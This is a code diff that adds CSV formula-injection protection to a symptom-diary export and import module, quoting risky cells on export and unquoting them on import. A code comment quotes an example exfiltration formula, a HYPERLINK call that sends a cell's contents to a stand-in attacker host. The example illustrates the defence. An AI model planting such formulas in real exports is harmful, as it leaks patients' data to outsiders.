@@ -134,13 +134,33 @@ def _row(entry: DiaryEntry) -> dict[str, str]:
     return row
 
 
+# Spreadsheets run a cell that starts with = + - @ (or tab/CR) as a formula: a diary note
+# such as =HYPERLINK("https://evil.example?"&A1) would run when a clinician opens the
+# export.  OWASP's advice: prefix such cells with a single quote.  A cell that already
+# starts with a quote before one of those characters gets one more, so the import strips
+# exactly one and every text comes back as it was typed.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise_cell(text: str) -> str:
+    if text.startswith(FORMULA_START) or (text.startswith("'") and text.lstrip("'").startswith(FORMULA_START)):
+        return "'" + text
+    return text
+
+
+def restore_cell(text: str) -> str:
+    if text.startswith("'") and text.lstrip("'").startswith(FORMULA_START):
+        return text[1:]
+    return text
+
+
 def to_csv(diary: Diary) -> str:
     """The diary as CSV text (one row per entry; see the module docstring for the columns)."""
     buffer = io.StringIO(newline="")
     writer = csv.DictWriter(buffer, fieldnames=csv_columns(diary), restval="", lineterminator="\r\n")
     writer.writeheader()
     for entry in diary.entries:
-        writer.writerow(_row(entry))
+        writer.writerow({k: neutralise_cell(v) for k, v in _row(entry).items()})
     return buffer.getvalue()
 
 
@@ -168,6 +188,7 @@ def _number(text: str, where: str, problems: list[str]) -> float | None:
 def _parse_row(row: dict[str, str], line: int, problems: list[str]) -> dict:
     data: dict = {"pain": [], "numbness": [], "strength": [], "function": {}}
     for name, raw in row.items():
+        raw = restore_cell(raw) if isinstance(raw, str) else raw
         text = raw if name == "notes" else raw.strip()
         where = f"row {line}, column '{name}'"
         if name in FUNCTION_DOMAINS:
